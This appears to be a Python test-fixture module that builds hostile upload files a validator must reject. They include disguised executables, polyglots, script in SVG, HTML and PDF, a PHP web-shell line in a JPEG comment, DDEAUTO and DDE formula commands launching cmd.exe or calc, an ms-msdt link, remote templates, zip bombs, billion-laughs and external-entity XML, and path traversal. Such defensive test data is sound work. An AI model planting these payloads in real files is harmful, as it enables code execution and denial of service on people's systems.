"""Files that must never come in: each with what is wrong, its name and its bytes. Made here, nothing is kept on disk."""

from __future__ import annotations

from collections.abc import Callable

from files.making import (
    DOCX_TYPE,
    MACRO_TYPE,
    OLE,
    PDF,
    PROGRAM,
    SCRIPT,
    VBA_TYPE,
    docx,
    encrypted,
    endless_rows,
    field,
    formula,
    jpeg,
    linked,
    lying_about_its_size,
    many_parts,
    office,
    overlapping,
    packed_objects,
    pdf,
    png,
    png_part,
    stream,
    symbolic_link,
    twice_the_same_name,
    xlsx,
)

LAUGHS = (
    b'<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    b"<w>&c;</w>"
)
OUTSIDE = b'<!DOCTYPE w SYSTEM "http://example.invalid/x.dtd"><w/>'
CATALOG = b"<< /Type /Catalog /Pages 2 0 R "
ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
Made = bytes | Callable[[], bytes]


def start(action: bytes) -> bytes:
    """A PDF that does this when it is opened."""
    return pdf(CATALOG + b"/OpenAction " + action + b" >>")


HOSTILE: tuple[tuple[str, str, Made], ...] = (
    # another kind than it says
    ("a program named pdf", "besluit.pdf", PROGRAM),
    ("a program", "besluit.exe", PROGRAM),
    ("a program behind a double ending", "besluit.pdf.exe", PROGRAM),
    ("a pdf that is called a program", "besluit.pdf.scr", PDF),
    ("a drawing with script", "kaart.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
    ("a drawing named png", "kaart.png", b"<svg>" + SCRIPT + b"</svg>"),
    ("a page", "verslag.html", b"<!doctype html>" + SCRIPT),
    ("a page named pdf", "verslag.pdf", b"<!doctype html>" + SCRIPT),
    ("a page named jpg", "foto.jpg", b"<html>" + SCRIPT),
    ("a page of another kind", "verslag.xhtml", SCRIPT),
    ("a text with a formula", "kosten.csv", b"=HYPERLINK('x')"),
    ("a workbook named docx", "brief.docx", xlsx()),
    ("a document named xlsx", "kosten.xlsx", docx()),
    ("an archive named docx", "brief.docx", office({"lees mij": b"x"})),
    ("an archive", "alles.zip", docx()),
    ("a jpg named png", "foto.png", jpeg()),
    ("a png named jpg", "foto.jpg", png()),
    ("a pdf after other bytes", "besluit.pdf", b"\x00\x00" + PDF),
    ("an old document named docx", "brief.docx", OLE),
    # names
    ("no ending", "besluit", PDF),
    ("only an ending", ".pdf", PDF),
    ("an ending behind a zero", "besluit.pdf\x00.exe", PROGRAM),
    ("a name that reads backwards", "besluit\u202efdp.pdf", PDF),
    ("a name with an invisible letter", "besluit\u200b.pdf", PDF),
    ("a name that climbs", "../../besluit.pdf", PDF),
    ("a name that climbs the other way", "..\\..\\besluit.pdf", PDF),
    ("a hidden stream of a file", "besluit.pdf::$DATA", PDF),
    ("a hidden stream with an ending", "besluit.exe:a.pdf", PDF),
    ("a dot at the end", "besluit.pdf.", PDF),
    ("a space at the end", "besluit.pdf ", PDF),
    ("a device of the computer", "CON.pdf", PDF),
    ("a name without end", "a" * 300 + ".pdf", PDF),
    # nothing, or not all
    ("nothing", "leeg.pdf", b""),
    ("one byte of a pdf", "kort.pdf", b"%"),
    ("half a pdf", "half.pdf", PDF[:60]),
    ("half a document", "brief.docx", docx()[:60]),
    ("a document with one broken byte", "brief.docx", docx().replace(b"PK\x01\x02", b"PK\x01\x03", 1)),
    ("half a png", "foto.png", png()[:-20]),
    ("a png with a wrong checksum", "foto.png", png()[:-1] + b"\x00"),
    ("half a jpg", "foto.jpg", jpeg()[:200]),
    # two files in one
    ("a pdf that is an archive", "besluit.pdf", PDF + office({"hulp.js": SCRIPT})),
    ("a jpg that is an archive", "foto.jpg", jpeg() + office({"a.class": b"x"})),
    ("a png that is an archive", "foto.png", png() + office({"a.class": b"x"})),
    ("a jpg with a page in its comment", "foto.jpg", jpeg(comment=b"<html>" + SCRIPT)),
    ("a png with script behind it", "foto.png", png() + SCRIPT),
    ("a png with script inside", "foto.png", png(before=[(b"tEXt", b"a\x00" + SCRIPT)])),
    ("a jpg with a program for servers", "foto.jpg", jpeg(comment=b"<?php system($_GET[0]); ?>")),
    ("a jpg that is a pdf", "foto.jpg", jpeg(comment=PDF)),
    ("a document that is a program", "brief.docx", PROGRAM + docx()),
    ("a document with bytes behind it", "brief.docx", docx() + PROGRAM),
    # pdf
    ("a pdf with script", "a.pdf", start(ACTION)),
    ("a pdf with script, spelled otherwise", "a.pdf", start(b"<< /S /J#61vaScript /JS (x) >>")),
    ("a pdf with script in packed objects", "a.pdf", pdf(CATALOG + b">>", packed_objects(ACTION))),
    ("a pdf with script in packed objects without a type", "a.pdf", pdf(packed_objects(ACTION, b"/N 1 /First 4"))),
    (
        "a pdf with objects packed twice",
        "a.pdf",
        pdf(packed_objects(ACTION, packing=b"/Filter [/ASCIIHexDecode /FlateDecode]")),
    ),
    ("a pdf that hides how it is packed", "a.pdf", pdf(packed_objects(ACTION, b"/Type /Obj#53tm /N 1 /First 4"))),
    ("a pdf that starts a program", "a.pdf", start(b"<< /S /Launch /F (cmd.exe) >>")),
    ("a pdf with a file inside", "a.pdf", pdf(stream(PROGRAM, b"/Type /EmbeddedFile"))),
    ("a pdf with a file in its names", "a.pdf", pdf(CATALOG + b"/Names << /EmbeddedFiles << >> >> >>")),
    ("a pdf with a form of another make", "a.pdf", pdf(CATALOG + b"/AcroForm << /XFA 3 0 R >> >>")),
    ("a pdf with a film", "a.pdf", pdf(b"<< /Type /Annot /Subtype /RichMedia >>")),
    ("a pdf that sends what one types", "a.pdf", start(b"<< /S /SubmitForm /F (http://example.invalid) >>")),
    ("a pdf that opens a file in another", "a.pdf", start(b"<< /S /GoToE >>")),
    ("a pdf with a password", "a.pdf", pdf(CATALOG + b">>", trailer=b"/Root 1 0 R /Encrypt 4 0 R")),
    ("a pdf that unpacks without end", "a.pdf", lambda: pdf(packed_objects(b"0" * 300_000_000))),
    # pictures
    ("a png of four thousand million points", "foto.png", png(65535, 65535, pixels=b"")),
    ("a png of no points", "foto.png", png(0, 10, pixels=b"")),
    ("a jpg of four thousand million points", "foto.jpg", jpeg(65535, 65535)),
    ("a png that moves", "foto.png", png(before=[(b"acTL", b"\x00\x0f\x42\x40\x00\x00\x00\x00")])),
    ("a png of a million parts", "foto.png", lambda: png(before=[(b"tEXt", b"a")] * 1_000_000)),
    ("a png without pixels", "foto.png", png()[:33] + png_part(b"IEND")),
    # office: macros and programs
    ("a document with macros", "brief.docm", docx(**{"word/vbaProject.bin": b"x"})),
    ("a document with macros named docx", "brief.docx", docx(**{"word/vbaProject.bin": b"x"})),
    ("macros in capitals", "brief.DOCX", docx(**{"WORD/VBAPROJECT.BIN": b"x"})),
    ("macros under another name", "brief.docx", docx(VBA_TYPE, **{"word/foto.bin": b"x"})),
    ("a macro document by its type", "brief.docx", docx(MACRO_TYPE)),
    ("an active control", "brief.docx", docx(**{"word/activeX/activeX1.xml": b"x"})),
    ("a sheet of macros", "kosten.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": b"<a/>"})),
    ("a ribbon of its own", "kosten.xlsx", xlsx(**{"customUI/customUI.xml": b"<a/>"})),
    ("a program inside", "brief.docx", docx(**{"word/embeddings/hulp.exe": PROGRAM})),
    ("a program inside named png", "brief.docx", docx(**{"word/media/foto.png": PROGRAM})),
    ("a zip inside", "brief.docx", docx(**{"word/embeddings/meer.zip": office({"a": b"b"})})),
    ("an old object inside", "kosten.xlsx", xlsx(**{"xl/embeddings/oleObject1.bin": OLE})),
    (
        "a workbook with macros inside",
        "brief.docx",
        docx(**{"word/embeddings/a.xlsx": xlsx(**{"xl/vbaProject.bin": OLE})}),
    ),
    ("a drawing with script inside", "brief.docx", docx(**{"word/media/a.svg": b"<svg>" + SCRIPT + b"</svg>"})),
    # office: what fetches
    ("a template from elsewhere", "brief.docx", linked("attachedTemplate", "http://example.invalid/a.dotm")),
    ("a template with a prefix", "brief.docx", linked("attachedTemplate", "\\\\server\\a.dotm", prefix="r:")),
    ("an object from elsewhere", "brief.docx", linked("oleObject", "http://example.invalid/a.hta")),
    ("a frame from elsewhere", "brief.docx", linked("frame", "http://example.invalid/")),
    ("a picture from elsewhere", "brief.docx", linked("image", "http://example.invalid/a.png")),
    ("a link that starts a program", "brief.docx", linked("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    ("a field that fetches", "brief.docx", field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    ("a field that fetches, in pieces", "brief.docx", field("DD", "EAU", "TO c:\\\\windows\\\\cmd.exe")),
    ("a field that takes in a file", "brief.docx", field("INCLUDETEXT http://example.invalid")),
    ("links to other workbooks", "kosten.xlsx", xlsx(**{"xl/externalLinks/externalLink1.xml": b"<a/>"})),
    ("a formula that starts a program", "kosten.xlsx", formula("cmd|'/c calc'!A0")),
    ("a formula that fetches", "kosten.xlsx", formula('WEBSERVICE("http://example.invalid")')),
    # office: bombs
    ("a bomb", "brief.docx", lambda: docx(**{"word/media/nul.bin": b"\x00" * 30_000_000})),
    ("a bomb that lies about its size", "brief.docx", lying_about_its_size),
    (
        "a bomb in a bomb",
        "brief.docx",
        lambda: docx(**{"word/embeddings/a.zip": office({"b.zip": b"\x00" * 9_000_000})}),
    ),
    ("rows without end", "kosten.xlsx", endless_rows),
    ("ten thousand parts", "brief.docx", lambda: many_parts(10_000)),
    ("parts that overlap", "brief.docx", overlapping),
    ("entities that multiply", "brief.docx", docx(body=LAUGHS)),
    ("entities that multiply in the links", "brief.docx", docx(**{"word/_rels/document.xml.rels": LAUGHS})),
    ("an entity from elsewhere", "kosten.xlsx", xlsx(OUTSIDE)),
    ("an entity in another alphabet", "brief.docx", docx(body=LAUGHS.decode().encode("utf-16"))),
    # office: ways of packing
    ("an encrypted document", "brief.docx", encrypted),
    ("a document with a password", "brief.docx", OLE + "EncryptedPackage".encode("utf-16-le")),
    ("a part that climbs out of its folder", "brief.docx", docx(**{"../../etc/passwd": b"x"})),
    ("a part that climbs the other way", "brief.docx", docx(**{"word\\..\\..\\a.xml": b"x"})),
    ("a part at the root", "brief.docx", docx(**{"/etc/passwd": b"x"})),
    ("a part that is a link", "brief.docx", symbolic_link),
    ("a part that is there twice", "brief.docx", twice_the_same_name),
    ("a type in another alphabet", "brief.docx", docx(DOCX_TYPE.decode().encode("utf-16"))),
)
